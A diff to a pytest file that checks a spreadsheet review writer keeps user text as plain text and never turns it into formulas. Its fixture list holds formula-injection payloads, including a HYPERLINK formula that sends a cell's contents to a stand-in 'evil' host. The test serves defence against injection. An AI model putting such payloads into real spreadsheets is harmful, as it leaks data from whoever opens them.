@@ -9,12 +9,12 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
+from xml_cells import formulas, texts
 
 from jixiao import pipeline
 from jixiao.io.loading import load_path
 from jixiao.io.review_xlsx import write_review
 from testdata import PINGSHAN
-from xml_cells import formulas, texts
 
 HOSTILE = ['=HYPERLINK("http://evil/?leak="&A3,"点我查看")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]
@@ -31,7 +31,7 @@ def test_selfeval_xlsx_keeps_user_text_as_text(hostile: str) -> None:
     found = formulas(data)
     assert found, "the writer's own totals are formulas"
     assert all(f.startswith(("SUM(", "IF(")) for f in found), found
-    assert not any("HYPERLINK" in f or "A1)" in f and f.startswith("SUM(A1") for f in found)
+    assert not any("HYPERLINK" in f or ("A1)" in f and f.startswith("SUM(A1")) for f in found)
     assert any(hostile.strip("\t\r") in t for t in texts(data)), texts(data)[:5]
 
 
